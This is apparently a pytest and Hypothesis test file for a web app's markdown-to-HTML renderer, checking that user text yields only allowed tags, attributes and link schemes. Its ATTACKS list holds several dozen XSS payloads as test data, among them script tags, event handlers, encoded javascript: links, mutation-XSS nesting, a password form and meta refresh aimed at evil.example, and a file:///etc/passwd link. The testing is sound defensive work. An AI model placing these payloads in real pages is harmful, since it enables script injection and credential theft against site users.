"""Texts become pages through a short list of tags, whatever somebody has written."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from voimala.public.rendering import ATTRIBUTES, SCHEMES, TAGS, as_html, as_text

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/v/voimala/publishing/)",
    "![x](https://evil.example/count.png)",
    "![x](x \"onerror=alert(1)\")",
    "[x](https://a.example \" onmouseover=alert(1) )",
    "<https://a.example/\" onclick=alert(1)>",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<style>body{display:none}</style>",
    "<div style=\"position:fixed\">",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "<!-- --><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "| a | b |\n|---|---|\n| <b onclick=x> | c |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>\x00alert(1)</script>",
    "x" * 5000 + "[" * 500,
    "> " * 300 + "syvä",
)  # fmt: skip


class Seen(HTMLParser):
    """Every tag, attribute and address of a text, as a browser's parser meets them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag != "br":
            self.open.append(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name == "href"]

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "tags close in their order"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl}")


def assert_harmless(text: str) -> None:
    seen = Seen()
    seen.feed(as_html(text))
    seen.close()
    assert seen.tags <= TAGS
    assert seen.attributes <= {("a", "rel"), *(("a", name) for name in ATTRIBUTES["a"])}
    assert not seen.open
    for address in seen.addresses:
        assert address.partition(":")[0].lower() in SCHEMES, address


@pytest.mark.parametrize("text", ATTACKS)
def test_a_known_attack_becomes_plain_words(text: str) -> None:
    assert_harmless(text)


@given(st.text(max_size=400))
def test_no_text_brings_another_tag(text: str) -> None:
    assert_harmless(text)


PIECES = (
    "<", ">", '"', "'", "[", "]", "(", ")", "!", "`", "*", "_", "#", ">", "-", "\n", "\n\n", " ", "&", ";",
    "javascript:", "data:", "https://a.fi", "mailto:", "script", "img", "onerror=", "style=", "href=",
    "&#x6a;", "a", "ä", "\t", "\\", "/", "=", ":", "1.", "```", "<!--", "-->", "<a ", "</a>",
)  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join))
def test_no_mixture_of_marks_and_tags_brings_another_tag(text: str) -> None:
    assert_harmless(text)


@given(st.text(alphabet="abcä .,!?", max_size=200))
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert as_text(text).split() == text.split()


def test_what_a_piece_of_news_needs_comes_through() -> None:
    text = (
        "# Kutsu\n\nTule **mukaan** *nyt*\ntoinen rivi\n\n- yksi\n- kaksi\n\n1. eka\n\n> lainaus\n\n### Alla"
    )
    made = as_html(text)
    for part in ("<h3>Kutsu</h3>", "<strong>mukaan</strong>", "<em>nyt</em>", "<br>", "<ul>", "<ol>"):
        assert part in made
    assert "<blockquote>" in made
    assert "<h4>Alla</h4>" in made
    assert "<h1" not in made


def test_the_first_heading_is_never_the_lowest() -> None:
    assert as_html("### Vain tämä") == "<h3>Vain tämä</h3>"


def test_links_are_made_and_nobody_can_look_back_through_them() -> None:
    made = as_html("Katso www.example.org/a?b=1&c=2 tai kirjoita nimi@example.org")
    assert 'href="http://www.example.org/a?b=1&amp;c=2"' in made
    assert 'href="mailto:nimi@example.org"' in made
    assert made.count('rel="noopener"') == 2


def test_a_calendar_gets_the_words_without_marks() -> None:
    assert as_text("## Ohjelma\n\n- a & b\n- c\n\nTule **mukaan**") == "Ohjelma\n\na & b\nc\n\nTule mukaan"
    assert as_text("") == ""
